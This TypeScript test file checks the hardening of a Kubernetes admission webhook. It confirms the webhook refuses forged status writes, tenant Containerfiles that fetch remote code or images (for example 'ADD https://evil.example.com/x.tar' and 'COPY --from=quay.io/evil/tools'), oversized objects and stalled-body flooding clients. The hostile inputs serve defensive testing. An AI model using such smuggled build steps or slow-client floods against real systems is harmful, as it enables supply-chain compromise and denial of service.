/**
 * The webhook's hardening: every attack reproduced, and the defence that holds it.
 * - status subresources written by anyone but the controller;
 * - tenant Containerfiles that redefine `configs`, add stages after `final`, or pull with the
 *   build's credentials (FROM/COPY --from an image, ADD of a URL);
 * - oversized objects (20,000 containerFile items, a 1.29 MB config): refused by the size check,
 *   work bounded by counting, not by timing;
 * - stalled bodies: bytes buffered bounded by the server-wide budget (the server's own counter),
 *   dropped at the body deadline.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import * as tls from 'node:tls';
import { tempDir } from '../../pkogen/test/helpers.js';
import { API_VERSION, BUILD_KIND, CONFIG_KIND, CONTROLLER_USERNAME, GROUP, VERSION } from '../../builder/api/types.js';
import { nodePoolOSConfigCRD } from '../../builder/api/crds.js';
import { containerfileIssues } from '../../builder/webhook/containerfile.js';
import {
  configProblems, decideAdmission, MAX_OBJECT_NODES, readAdmissionReview, resetWorkCounters, workCounters, type AdmissionReview,
} from '../../builder/webhook/validate.js';
import { startWebhookServer, WEBHOOK_PATHS, type WebhookServer } from '../../builder/webhook/server.js';
import { webhookRegistry } from '../../resources/webhooks.js';

const OPTS = { controllerUsername: CONTROLLER_USERNAME };
const DIGEST = 'sha256:' + 'b'.repeat(64);

function config(over: Record<string, unknown> = {}, status?: Record<string, unknown>): Record<string, unknown> {
  return {
    apiVersion: API_VERSION,
    kind: CONFIG_KIND,
    metadata: { name: 'workers' },
    spec: {
      nodePool: { name: 'workers' },
      imageBuilder: { imageBuilderType: 'Job' },
      renderedImagePushSecret: { name: 'push-secret' },
      renderedImagePushSpec: 'quay.example.com/org/os-images:latest',
      containerFile: [{ containerfileArch: 'NoArch', content: 'FROM configs AS final\nRUN true\n' }],
      ...over,
    },
    ...(status ? { status } : {}),
  };
}

function build(status?: Record<string, unknown>): Record<string, unknown> {
  return {
    apiVersion: API_VERSION,
    kind: BUILD_KIND,
    metadata: { name: 'workers-0123456789' },
    spec: {
      nodePoolOSConfig: { name: 'workers' },
      nodePool: { name: 'workers' },
      releaseImage: `quay.io/openshift-release-dev/ocp-release@${DIGEST}`,
      baseOSImage: `quay.io/openshift-release-dev/ocp-v4.0-art-dev@${DIGEST}`,
      renderedImagePushSpec: 'quay.example.com/org/os-images:latest',
    },
    ...(status ? { status } : {}),
  };
}

function decide(kind: string, object: unknown, extra: Record<string, unknown> = {}) {
  const review = {
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: { uid: 'u1', kind: { group: GROUP, version: VERSION, kind }, operation: 'CREATE', userInfo: { username: 'kube:admin', groups: ['system:cluster-admins'] }, object, ...extra },
  } as unknown as AdmissionReview;
  return decideAdmission(readAdmissionReview(review, kind as never), OPTS);
}

const CONTROLLER = { userInfo: { username: CONTROLLER_USERNAME } };
const SUCCEEDED = {
  conditions: [{ type: 'Succeeded', status: 'True', reason: 'Built', message: '', lastTransitionTime: '2026-11-25T00:00:00Z' }],
  digestedImagePushSpec: `evil.example.com/x/y@${DIGEST}`,
};

describe('status subresources are the controller\'s', () => {
  test('the registration covers nodepoolosconfigs/status and nodepoolosbuilds/status', () => {
    const resources = webhookRegistry.flatMap((c) => c.webhooks.flatMap((w) => w.rules.flatMap((r) => r.resources)));
    expect(resources).toEqual(expect.arrayContaining(['nodepoolosconfigs', 'nodepoolosconfigs/status', 'nodepoolosbuilds', 'nodepoolosbuilds/status']));
    for (const w of webhookRegistry.flatMap((c) => c.webhooks)) {
      for (const r of w.rules) expect(r.operations).toEqual(expect.arrayContaining(['CREATE', 'UPDATE']));
    }
  });

  test('a hosted-cluster admin writing Succeeded and a digest through nodepoolosbuilds/status is refused (403)', () => {
    const d = decide(BUILD_KIND, build(SUCCEEDED), { operation: 'UPDATE', subResource: 'status', oldObject: build() });
    expect(d.allowed).toBe(false);
    expect(d.review.response!.status).toMatchObject({ code: 403, reason: 'Forbidden' });
  });

  test('a hosted-cluster admin writing nodepoolosconfigs/status is refused (403)', () => {
    const forged = { currentImagePullSpec: `evil.example.com/x/y@${DIGEST}` };
    const d = decide(CONFIG_KIND, config({}, forged), { operation: 'UPDATE', subResource: 'status', oldObject: config() });
    expect(d.allowed).toBe(false);
    expect(d.review.response!.status).toMatchObject({ code: 403, reason: 'Forbidden' });
    expect(d.review.response!.status!.message).toContain('status of a NodePoolOSConfig is written by the on-cluster-build controller only');
  });

  test('the controller\'s own ServiceAccount may still write both statuses', () => {
    expect(decide(CONFIG_KIND, config({}, { observedGeneration: 1 }), { operation: 'UPDATE', subResource: 'status', oldObject: config(), ...CONTROLLER }).allowed).toBe(true);
    expect(decide(BUILD_KIND, build(SUCCEEDED), { operation: 'UPDATE', subResource: 'status', oldObject: build(), ...CONTROLLER }).allowed).toBe(true);
  });

  test('the admin may still edit a config\'s spec', () => {
    expect(decide(CONFIG_KIND, config(), { operation: 'UPDATE', oldObject: config() }).allowed).toBe(true);
  });
});

describe('tenant Containerfiles', () => {
  const ok = (c: string) => expect(containerfileIssues(c)).toEqual([]);
  const refused = (c: string, msg: string) => expect(containerfileIssues(c).map((i) => i.message).join('\n')).toContain(msg);

  test('a plain final stage, and stages built from configs and earlier stages, are allowed', () => {
    ok('FROM configs AS final\nRUN dnf install -y tree\n');
    ok('FROM configs AS tools\nRUN make\nFROM tools AS more\nFROM configs AS final\nCOPY --from=tools /out /usr/bin/\nCOPY --from=configs /etc/os-release /x\nRUN --mount=type=bind,from=more,source=/a,target=/b true\n');
    ok('# escape=`\nFROM configs AS final\nRUN echo a `\n    b\n');
    ok('ARG X=1\nFROM configs AS final\nADD local.tar /opt/\n');
  });

  test.each<[string, string, string]>([
    ['a stage named configs', 'FROM configs AS configs\nRUN evil\nFROM configs AS final\n', '"configs" is the stage the build supplies'],
    ['a stage named CONFIGS (case-insensitive, as buildah)', 'FROM configs AS final\nFROM configs AS CONFIGS\n', '"configs" is the stage the build supplies'],
    ['a stage after final', 'FROM configs AS final\nFROM configs AS extra\nRUN evil\n', '"final" must be the last stage'],
    ['final defined twice', 'FROM configs AS final\nFROM configs AS final\n', 'defined twice'],
    ['no final stage', 'FROM configs AS other\n', 'must define the stage "final"'],
    ['final from another stage', 'FROM configs AS a\nFROM a AS final\n', 'the "final" stage must start FROM configs'],
    ['ADD https://', 'FROM configs AS final\nADD https://evil.example.com/x.tar /opt/\n', 'remote sources are not allowed'],
    ['ADD http:// in JSON form', 'FROM configs AS final\nADD ["http://evil.example.com/x", "/x"]\n', 'remote sources are not allowed'],
    ['ADD git@', 'FROM configs AS final\nADD git@github.com:org/repo.git /src\n', 'remote sources are not allowed'],
    ['ADD of a variable', 'ARG U=https://evil.example.com/x\nFROM configs AS final\nARG U\nADD $U /x\n', 'variables are not allowed in ADD sources'],
    ['COPY --from=<image>', 'FROM configs AS final\nCOPY --from=quay.io/evil/tools:1 /x /x\n', 'an image reference would be pulled with the build\'s credentials'],
    ['COPY --from=<later stage>', 'FROM configs AS final\nCOPY --from=later /x /x\n', 'only "configs" or an earlier stage'],
    ['COPY --from=<number>', 'FROM configs AS a\nFROM configs AS final\nCOPY --from=0 /x /x\n', 'not by number'],
    ['COPY --from=$VAR', 'FROM configs AS final\nCOPY --from=$IMG /x /x\n', 'variables are not allowed here'],
    ['FROM <image> AS tools, then COPY --from=tools', 'FROM quay.io/evil/tools:1 AS tools\nFROM configs AS final\nCOPY --from=tools /x /x\n', 'a stage must start from "configs" or an earlier stage'],
    ['FROM $VAR', 'ARG B=quay.io/evil\nFROM $B AS b\nFROM configs AS final\n', 'variables are not allowed here'],
    ['RUN --mount from an image', 'FROM configs AS final\nRUN --mount=type=bind,from=quay.io/evil/x,target=/m true\n', 'only "configs" or an earlier stage'],
    ['ONBUILD COPY --from=<image>', 'FROM configs AS a\nONBUILD COPY --from=quay.io/evil/x /x /x\nFROM a AS b\nFROM configs AS final\n', 'an image reference would be pulled'],
    ['a FROM hidden after a comment inside a continuation', 'FROM configs AS final\nRUN true\nFROM quay.io/evil/x AS y\n', 'a stage must start from'],
    ['with # escape=` a backslash does not continue the line, so the next FROM is a stage', '# escape=`\nFROM configs AS final\nRUN echo \\\nFROM configs AS later\n', '"final" must be the last stage'],
  ])('%s is refused', (_name, content, msg) => refused(content, msg));

  test('comments inside a continued instruction do not end it (as the Dockerfile parser reads them)', () => {
    // The FROM line here is part of the RUN (after the comment line), so it is not a stage.
    ok('FROM configs AS final\nRUN echo a \\\n# a comment\n  FROM quay.io/evil/x\n');
  });

  test('the webhook refuses such a config with the field and the line', () => {
    const d = decide(CONFIG_KIND, config({ containerFile: [{ content: 'FROM configs AS final\nCOPY --from=quay.io/evil/x /x /x\n' }] }));
    expect(d.allowed).toBe(false);
    expect(d.review.response!.status!.message).toContain('spec.containerFile[0].content: line 2: COPY --from="quay.io/evil/x"');
  });
});

describe('bounded work', () => {
  beforeEach(() => resetWorkCounters());

  test('20,000 containerFile items: refused by the size check; the rules see no item and the schema never runs', () => {
    const items = Array.from({ length: 20_000 }, (_, i) => ({ containerfileArch: 'NoArch', content: `FROM configs AS final\n# ${i}\n` }));
    const d = decide(CONFIG_KIND, config({ containerFile: items }));
    expect(d.allowed).toBe(false);
    expect(d.review.response!.status).toMatchObject({ code: 422 });
    expect(d.review.response!.status!.message).toContain('spec.containerFile: must have at most 4 items; got 20000');
    const w = workCounters();
    expect(w.containerFileItems).toBe(0);
    expect(w.schemaRuns).toBe(0);
    expect(w.sizeNodes).toBeLessThanOrEqual(MAX_OBJECT_NODES + 1);
  });

  test('the same object through the controller\'s rules (configProblems) is refused the same bounded way', () => {
    const items = Array.from({ length: 60_000 }, () => ({ content: 'x' }));
    const p = configProblems(config({ containerFile: items }));
    expect(p).toEqual(['spec.containerFile: must have at most 4 items; got 60000']);
    expect(workCounters()).toMatchObject({ containerFileItems: 0, schemaRuns: 0 });
  });

  test('a 1.29 MB config is refused at the size check', () => {
    const big = config({ containerFile: [{ content: 'FROM configs AS final\n' + '#'.repeat(1_290_000) }] });
    expect(JSON.stringify(big).length).toBeGreaterThan(1_290_000);
    const p = configProblems(big);
    expect(p).toEqual([`spec.containerFile[0].content: must be at most 4096 characters; got ${1_290_000 + 22}`]);
    expect(workCounters()).toMatchObject({ schemaRuns: 0, sizeRefusals: 1 });
  });

  test('an object with more values than any config can have stops the walk at the node budget', () => {
    const wide = config({ nodePool: Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`k${i}`, i])) });
    const p = configProblems(wide);
    expect(p.join('\n')).toContain(`more than ${MAX_OBJECT_NODES} fields and list items`);
    expect(workCounters().sizeNodes).toBeLessThanOrEqual(MAX_OBJECT_NODES + 1);
    expect(workCounters().schemaRuns).toBe(0);
  });

  test('a within-bounds object with many problems gets a capped list: first ones and "and K more"', () => {
    const bad = config({
      renderedImagePushSpec: 'nope',
      renderedImagePushSecret: { name: 'Bad_Name' },
      baseImagePullSecret: { name: 'Also_Bad' },
      imageBuilder: { imageBuilderType: 'Pod' },
      containerFile: [1, 2, 3, 4].map((i) => ({ containerfileArch: 'NoArch', content: `FROM quay.io/x${i} AS configs\nADD https://x/${i} /\nCOPY --from=img${i} / /\nFROM configs AS z\n` })),
    });
    const d = decide(CONFIG_KIND, bad);
    const msg = d.review.response!.status!.message;
    expect(msg.match(/(^|; )spec\./g)!.length).toBeLessThanOrEqual(10);
    expect(msg).toMatch(/; and \d+ more$/);
    expect(d.fields.length).toBeLessThanOrEqual(20);
  });

  test('the CRD bounds every string and list it has (apiVersion and kind included)', () => {
    const unbounded: string[] = [];
    const walk = (s: Record<string, unknown>, p: string): void => {
      if (s.type === 'string' && s.maxLength === undefined && s.enum === undefined && s.format !== 'date-time') unbounded.push(p);
      if (s.type === 'array' && s.maxItems === undefined) unbounded.push(p);
      for (const [k, v] of Object.entries((s.properties ?? {}) as Record<string, Record<string, unknown>>)) walk(v, `${p}.${k}`);
      if (s.items) walk(s.items as Record<string, unknown>, `${p}[]`);
    };
    const crd = nodePoolOSConfigCRD() as { spec: { versions: { schema: { openAPIV3Schema: Record<string, unknown> } }[] } };
    walk(crd.spec.versions[0]!.schema.openAPIV3Schema, '');
    expect(unbounded).toEqual([]);
  });
});

// ---- the server: bytes in flight, body deadline -------------------------------------------------

function makeCert(dir: string): { ca: string; cert: string; key: string } {
  const run = (args: string[]) => execFileSync('openssl', args, { stdio: 'pipe' });
  const caKey = path.join(dir, 'ca.key');
  const ca = path.join(dir, 'ca.crt');
  run(['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', caKey, '-out', ca, '-days', '2', '-subj', '/CN=test-ca']);
  const key = path.join(dir, 'tls.key');
  const csr = path.join(dir, 'tls.csr');
  const cert = path.join(dir, 'tls.crt');
  run(['req', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', key, '-out', csr, '-subj', '/CN=127.0.0.1']);
  const ext = path.join(dir, 'ext.cnf');
  writeFileSync(ext, 'subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n');
  run(['x509', '-req', '-in', csr, '-CA', ca, '-CAkey', caKey, '-CAcreateserial', '-out', cert, '-days', '2', '-extfile', ext]);
  return { ca: readFileSync(ca, 'utf8'), cert, key };
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Polls `cond` every 20 ms, at most `tries` times (bounded); returns whether it held. */
async function until(cond: () => boolean, tries = 500): Promise<boolean> {
  for (let i = 0; i < tries; i++) {
    if (cond()) return true;
    await sleep(20);
  }
  return cond();
}

/**
 * A client that sends headers and part of a body, then stalls; resolves true once the part is
 * written, false when the connection ended before (e.g. the server's handshake timeout on a
 * loaded machine: then it never made a request).
 */
function stalled(port: number, ca: string, head: string, part: Buffer, sockets: tls.TLSSocket[]): Promise<boolean> {
  return new Promise((resolve) => {
    const s = tls.connect({ host: '127.0.0.1', port, ca, servername: undefined }, () => {
      s.write(head);
      s.write(part, () => resolve(true));
    });
    s.on('error', () => resolve(false));
    s.on('close', () => resolve(false));
    s.resume();
    sockets.push(s);
  });
}

describe('stalled bodies', () => {
  const tmp = tempDir('pkogen-webhook-hardening-');
  let cert: { ca: string; cert: string; key: string };
  let server: WebhookServer;
  const CAP = 12 * 1024 * 1024;
  const BODY = 3 * 1024 * 1024;

  beforeAll(async () => {
    cert = makeCert(tmp.dir);
    server = await startWebhookServer({
      port: 0, host: '127.0.0.1', certFile: cert.cert, keyFile: cert.key, controllerUsername: CONTROLLER_USERNAME, log: () => {},
      // Handshake/headers: 2 s, so 100 TLS handshakes at once fit on a loaded machine. Bodies: 2 s,
      // so the slots taken first are still held while the last clients arrive (with 400 ms, on a
      // loaded 2-core machine the first slots expired before the rest came and none was refused busy).
      maxBytesInFlight: CAP, bodyTimeoutMs: 2000, headersTimeoutMs: 2000,
    });
  });
  afterAll(async () => {
    await server?.close();
    tmp.cleanup();
  });

  test('100 stalled 3 MiB bodies: at most the in-flight cap is ever reserved; the rest are refused at once; all dropped at the deadline', async () => {
    const sockets: tls.TLSSocket[] = [];
    const head = `POST ${WEBHOOK_PATHS.nodePoolOSConfigs} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${BODY}\r\n\r\n`;
    const before = server.stats();
    const sent = (await Promise.all(Array.from({ length: 100 }, () => stalled(server.port, cert.ca, head, Buffer.alloc(1024 * 1024, 0x20), sockets)))).filter(Boolean).length;
    // Each request ends one way: refused at once (429, nothing read) or dropped at the deadline (408).
    const ended = () => server.stats().refusedBusy - before.refusedBusy + server.stats().timedOut - before.timedOut;
    expect(sent).toBeGreaterThanOrEqual(60);
    expect(await until(() => ended() >= sent)).toBe(true);
    const s1 = server.stats();
    expect(s1.peakBytesInFlight).toBeLessThanOrEqual(CAP);
    // Which ones got a slot depends on arrival order; most cannot have (4 slots, 2 s each).
    expect(s1.refusedBusy - before.refusedBusy).toBeGreaterThanOrEqual(sent / 2);
    expect(s1.decisions).toBe(before.decisions);
    expect(await until(() => server.stats().bytesInFlight === 0)).toBe(true);
    for (const s of sockets) s.destroy();
  });

  test('chunked bodies (no declared length) are counted as they arrive and bounded the same way', async () => {
    const sockets: tls.TLSSocket[] = [];
    const head = `POST ${WEBHOOK_PATHS.nodePoolOSConfigs} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const chunk = Buffer.concat([Buffer.from((512 * 1024).toString(16) + '\r\n'), Buffer.alloc(512 * 1024, 0x20), Buffer.from('\r\n')]);
    const before = server.stats();
    const sent = (await Promise.all(Array.from({ length: 60 }, () => stalled(server.port, cert.ca, head, chunk, sockets)))).filter(Boolean).length;
    expect(sent).toBeGreaterThanOrEqual(30);
    expect(await until(() => server.stats().refusedBusy - before.refusedBusy + server.stats().timedOut - before.timedOut >= sent)).toBe(true);
    expect(server.stats().peakBytesInFlight).toBeLessThanOrEqual(CAP);
    expect(server.stats().refusedBusy - before.refusedBusy).toBeGreaterThan(0);
    expect(await until(() => server.stats().bytesInFlight === 0)).toBe(true);
    for (const s of sockets) s.destroy();
  });

  test('a client that never finishes its headers is disconnected (headers timeout)', async () => {
    const closed = await new Promise<boolean>((resolve) => {
      const s = tls.connect({ host: '127.0.0.1', port: server.port, ca: cert.ca }, () => s.write('POST /validate/nodepoolosconfigs HTTP/1.1\r\nHost: x\r\n'));
      s.resume();
      s.on('close', () => resolve(true));
      s.on('error', () => {});
      setTimeout(() => {
        s.destroy();
        resolve(false);
      }, 10_000).unref();
    });
    expect(closed).toBe(true);
  });

  test('after all that, a normal review is still answered', async () => {
    const body = JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'ok', kind: { group: GROUP, version: VERSION, kind: CONFIG_KIND }, operation: 'CREATE', userInfo: { username: 'a' }, object: config() } });
    const reply = await new Promise<string>((resolve, reject) => {
      const s = tls.connect({ host: '127.0.0.1', port: server.port, ca: cert.ca }, () => {
        s.write(`POST ${WEBHOOK_PATHS.nodePoolOSConfigs} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
      });
      let data = '';
      s.setEncoding('utf8');
      s.on('data', (d) => (data += d));
      s.on('end', () => resolve(data));
      s.on('error', reject);
    });
    expect(reply).toContain('"allowed":true');
  });
});

// ---- service-ca rotation: the served chain bridges old and new trust -----------------------------

describe('serving certificate rotation as service-ca does it (CA bundle not frozen)', () => {
  const tmp = tempDir('pkogen-webhook-rotation-');
  const run = (args: string[]) => execFileSync('openssl', args, { stdio: 'pipe', cwd: tmp.dir });
  const EC = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes'];
  let server: WebhookServer | undefined;

  afterAll(async () => {
    await server?.close();
    tmp.cleanup();
  });

  /** GET /healthz trusting `ca` (PEM, may hold several certificates); resolves to whether TLS verified. */
  const verifies = (port: number, ca: string) =>
    new Promise<boolean>((resolve) => {
      const s = tls.connect({ host: '127.0.0.1', port, ca }, () => {
        s.destroy();
        resolve(true);
      });
      s.on('error', () => resolve(false));
    });

  test('old bundle + new chain, new bundle + old certificate, and a hot swap of the files all verify', async () => {
    const ext = (f: string, text: string) => writeFileSync(path.join(tmp.dir, f), text);
    ext('ca.ext', 'basicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign,cRLSign\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n');
    ext('leaf.ext', 'subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n');
    // Two CAs with the same subject (service-ca keeps it), and the two bridging intermediates.
    for (const n of ['ca1', 'ca2']) {
      run(['req', '-x509', ...EC, '-keyout', `${n}.key`, '-out', `${n}.crt`, '-days', '3', '-subj', '/CN=openshift-service-serving-signer', '-addext', 'subjectKeyIdentifier=hash', '-addext', 'basicConstraints=critical,CA:TRUE', '-addext', 'keyUsage=critical,keyCertSign,cRLSign']);
      run(['req', '-new', '-key', `${n}.key`, '-out', `${n}.csr`, '-subj', '/CN=openshift-service-serving-signer']);
    }
    run(['x509', '-req', '-in', 'ca2.csr', '-CA', 'ca1.crt', '-CAkey', 'ca1.key', '-CAcreateserial', '-out', 'ca2-by-ca1.crt', '-days', '3', '-extfile', 'ca.ext']);
    run(['x509', '-req', '-in', 'ca1.csr', '-CA', 'ca2.crt', '-CAkey', 'ca2.key', '-CAcreateserial', '-out', 'ca1-by-ca2.crt', '-days', '3', '-extfile', 'ca.ext']);
    for (const n of ['ca1', 'ca2']) {
      run(['req', '-new', ...EC, '-keyout', `leaf-${n}.key`, '-out', `leaf-${n}.csr`, '-subj', '/CN=on-cluster-build-webhook']);
      run(['x509', '-req', '-in', `leaf-${n}.csr`, '-CA', `${n}.crt`, '-CAkey', `${n}.key`, '-CAcreateserial', '-out', `leaf-${n}.crt`, '-days', '3', '-extfile', 'leaf.ext']);
    }
    const read = (f: string) => readFileSync(path.join(tmp.dir, f), 'utf8');
    const oldBundle = read('ca1.crt');
    const newBundle = read('ca2.crt') + read('ca1-by-ca2.crt');
    // Before rotation: tls.crt = leaf from CA1.
    const certFile = path.join(tmp.dir, 'tls.crt');
    const keyFile = path.join(tmp.dir, 'tls.key');
    writeFileSync(certFile, read('leaf-ca1.crt'));
    writeFileSync(keyFile, read('leaf-ca1.key'));
    server = await startWebhookServer({ port: 0, host: '127.0.0.1', certFile, keyFile, controllerUsername: CONTROLLER_USERNAME, log: () => {}, certPollMs: 50 });
    expect(await verifies(server.port, oldBundle)).toBe(true);
    // The hosted KAS got the new bundle first: the old certificate still verifies.
    expect(await verifies(server.port, newBundle)).toBe(true);
    // service-ca rewrites the Secret: leaf from CA2 plus the CA2-by-CA1 intermediate.
    writeFileSync(`${keyFile}.new`, read('leaf-ca2.key'));
    writeFileSync(`${certFile}.new`, read('leaf-ca2.crt') + read('ca2-by-ca1.crt'));
    const { renameSync } = await import('node:fs');
    renameSync(`${keyFile}.new`, keyFile);
    renameSync(`${certFile}.new`, certFile);
    // Bounded wait for the reload (polled every 50 ms): the new chain verifies against the new bundle...
    let swapped = false;
    for (let i = 0; i < 200 && !swapped; i++) {
      swapped = await verifies(server.port, read('ca2.crt'));
      if (!swapped) await sleep(25);
    }
    expect(swapped).toBe(true);
    // ...and, through the intermediate, against the old bundle the hosted KAS may still hold.
    expect(await verifies(server.port, oldBundle)).toBe(true);
    expect(await verifies(server.port, newBundle)).toBe(true);
  });
});
